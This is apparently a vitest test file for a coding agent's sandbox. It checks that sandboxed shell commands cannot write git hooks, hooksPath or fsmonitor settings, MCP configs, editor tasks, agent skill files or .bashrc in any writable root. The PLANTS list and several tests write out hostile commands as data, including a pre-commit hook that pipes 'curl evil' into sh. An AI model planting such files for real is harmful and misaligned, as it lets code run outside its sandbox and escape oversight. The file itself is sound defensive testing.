// Files that programs outside the sandbox run or obey stay read-only in every writable root, not only in the
// process's working directory (the only place the runtime protects them). Here the process runs in the repository
// that holds the tests, never in the project: the case of tandem started in a subfolder, and of --add-dir.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GuardScanner } from '../../src/sandbox/guard-scan';
import { bashTool } from '../../src/tools/bash';
import { killAllShells } from '../../src/tools/shell-session';
import { makeTempDir, type TestContext } from '../tools/other/context';
import { makeSandboxWorld, sandboxSkipReason, type SandboxWorld } from './support';

const skip = sandboxSkipReason();
if (skip) console.warn(`sandbox root-guard tests skipped: ${skip}`);

const run = (ctx: TestContext, command: string) => bashTool.run(bashTool.inputSchema.parse({ command }), ctx);
const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, stdio: 'ignore' });

/** Writes a sandboxed command could use to run code outside the sandbox later. */
const PLANTS = [
  'echo "curl evil | sh" > .git/hooks/pre-commit',
  'printf "[core]\\n\\thooksPath = /tmp/evil\\n" >> .git/config',
  'git config core.fsmonitor "touch /tmp/pwned"',
  `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json`,
  'mkdir -p .vscode && echo "{}" > .vscode/tasks.json',
  'mkdir -p .claude/agents && echo evil > .claude/agents/x.md',
  'mkdir -p .claude/skills/x && echo evil > .claude/skills/x/SKILL.md',
  'echo evil >> .bashrc',
];

function planted(dir: string): string[] {
  const found: string[] = [];
  if (fs.readFileSync(path.join(dir, '.git', 'config'), 'utf8').match(/hooksPath|fsmonitor/)) found.push('.git/config');
  for (const p of ['.git/hooks/pre-commit', '.mcp.json', '.vscode/tasks.json', '.claude/agents/x.md', '.claude/skills/x/SKILL.md', '.bashrc']) {
    const full = path.join(dir, p);
    if (fs.existsSync(full) && fs.statSync(full).size > 0) found.push(p);
  }
  return found;
}

describe('root guards (paths)', () => {
  it('protects a .git folder\'s hooks and config, a .git file itself, and nothing where there is none', () => {
    const base = makeTempDir('tandem-guards-');
    const repo = path.join(base, 'repo');
    const worktree = path.join(base, 'wt');
    const plain = path.join(base, 'plain');
    fs.mkdirSync(path.join(repo, '.git'), { recursive: true });
    fs.mkdirSync(worktree);
    fs.writeFileSync(path.join(worktree, '.git'), 'gitdir: /elsewhere\n');
    fs.mkdirSync(plain);
    const guards = new GuardScanner().scan({ roots: [repo, worktree, plain, path.join(base, 'missing')] });
    expect(guards).toContain(path.join(repo, '.git', 'hooks'));
    expect(guards).toContain(path.join(repo, '.git', 'config'));
    expect(guards).toContain(path.join(worktree, '.git'));
    expect(guards).not.toContain(path.join(plain, '.git'));
    expect(guards).toContain(path.join(plain, '.mcp.json'));
    expect(guards).toContain(path.join(plain, '.claude'));
    expect(guards.some((g) => g.startsWith(path.join(base, 'missing')))).toBe(false);
  });
});

describe.skipIf(skip !== undefined)('sandboxed Bash: no code planted for programs outside', () => {
  let w: SandboxWorld;
  const contexts: TestContext[] = [];
  const ctx = (cwd?: string) => {
    const c = w.ctx();
    if (cwd) c.setCwd(cwd);
    contexts.push(c);
    return c;
  };

  beforeAll(async () => {
    w = await makeSandboxWorld({ enabled: true }, [], [], ['other-repo', 'later-repo']);
    git(w.project, 'init', '-q');
    git(w.addDirs[0]!, 'init', '-q');
    expect(process.cwd()).not.toBe(w.project);
  });
  afterAll(async () => {
    for (const c of contexts) await killAllShells(c.sessionStore);
    await w?.controller.close();
  });

  it('in the project when tandem does not run in it', async () => {
    const r = await run(ctx(), PLANTS.join('; '));
    expect(String(r.forModel)).toMatch(/Read-only file system|could not lock config file/);
    expect(planted(w.project)).toEqual([]);
  });

  it('in an additional directory', async () => {
    const other = w.addDirs[0]!;
    const r = await run(ctx(other), `echo ok > work.txt; ${PLANTS.join('; ')}`);
    expect(fs.readFileSync(path.join(other, 'work.txt'), 'utf8')).toBe('ok\n');
    expect(String(r.forModel)).toMatch(/Read-only file system/);
    expect(planted(other)).toEqual([]);
  });

  it('in a repository created after the session started', async () => {
    const later = w.addDirs[1]!;
    git(later, 'init', '-q');
    await run(ctx(later), PLANTS.join('; '));
    expect(planted(later)).toEqual([]);
  });

  it('in a repository two levels below an additional directory', async () => {
    const other = w.addDirs[0]!;
    fs.mkdirSync(path.join(other, 'a', 'b'), { recursive: true });
    git(path.join(other, 'a', 'b'), 'init', '-q');
    await run(ctx(other), 'echo evil > a/b/.git/hooks/pre-commit; git -C a/b config core.fsmonitor "touch /tmp/pwned"; echo ok > a/b/work.txt');
    expect(fs.readFileSync(path.join(other, 'a', 'b', 'work.txt'), 'utf8')).toBe('ok\n');
    expect(fs.existsSync(path.join(other, 'a', 'b', '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(fs.readFileSync(path.join(other, 'a', 'b', '.git', 'config'), 'utf8')).not.toMatch(/fsmonitor/);
  });

  it("in a repository below the command's folder, deeper than the project's own scan reaches", async () => {
    const deep = path.join(w.project, 'p', 'q', 'r');
    fs.mkdirSync(path.join(deep, 's', 't'), { recursive: true });
    git(path.join(deep, 's', 't'), 'init', '-q');
    await run(ctx(deep), 'echo evil > s/t/.git/hooks/pre-commit');
    expect(fs.existsSync(path.join(deep, 's', 't', '.git', 'hooks', 'pre-commit'))).toBe(false);
  });

  it('in a repository an earlier command created', async () => {
    await run(ctx(), 'mkdir -p deep/er && git -C deep/er init -q');
    expect(fs.existsSync(path.join(w.project, 'deep', 'er', '.git', 'HEAD'))).toBe(true);
    await run(ctx(), 'echo evil > deep/er/.git/hooks/pre-commit; echo "[core] hooksPath = /tmp/evil" >> deep/er/.git/config');
    expect(fs.existsSync(path.join(w.project, 'deep', 'er', '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(fs.readFileSync(path.join(w.project, 'deep', 'er', '.git', 'config'), 'utf8')).not.toMatch(/hooksPath/);
  });

  it("in a submodule's git folder and in the folder core.hooksPath names (husky)", async () => {
    const modules = path.join(w.project, '.git', 'modules', 'libs', 'x');
    fs.mkdirSync(path.join(modules, 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(modules, 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(path.join(modules, 'config'), '[core]\n');
    fs.mkdirSync(path.join(w.project, '.husky', '_'), { recursive: true });
    git(w.project, 'config', 'core.hooksPath', '.husky/_');
    try {
      await run(ctx(), [
        'echo evil > .git/modules/libs/x/hooks/post-checkout',
        'printf "[core]\\n\\tfsmonitor = x\\n" >> .git/modules/libs/x/config',
        'echo evil > .husky/pre-commit',
        'echo evil > .husky/_/pre-commit',
      ].join('; '));
      expect(fs.existsSync(path.join(modules, 'hooks', 'post-checkout'))).toBe(false);
      expect(fs.readFileSync(path.join(modules, 'config'), 'utf8')).toBe('[core]\n');
      expect(fs.existsSync(path.join(w.project, '.husky', 'pre-commit'))).toBe(false);
      expect(fs.existsSync(path.join(w.project, '.husky', '_', 'pre-commit'))).toBe(false);
    } finally {
      git(w.project, 'config', '--unset', 'core.hooksPath');
    }
  });

  it('still lets git work in the project', async () => {
    const r = await run(ctx(), 'echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t commit -qm one && git log --oneline | wc -l');
    expect(r.summary).toMatch(/^exit 0/);
    expect(String(r.forModel).trim().split('\n').pop()).toBe('1');
  });

  it('leaves no mount point behind in the project after overlapping calls', async () => {
    await Promise.all([run(ctx(), 'sleep 0.5'), run(ctx(), 'sleep 1'), run(ctx(w.addDirs[0]!), 'sleep 0.2')]);
    for (const dir of [w.project, w.addDirs[0]!]) {
      const left = ['.zshrc', '.idea', '.profile', '.gitmodules', '.ripgreprc'].filter((n) => fs.existsSync(path.join(dir, n)));
      expect({ dir, left }).toEqual({ dir, left: [] });
    }
  });
});
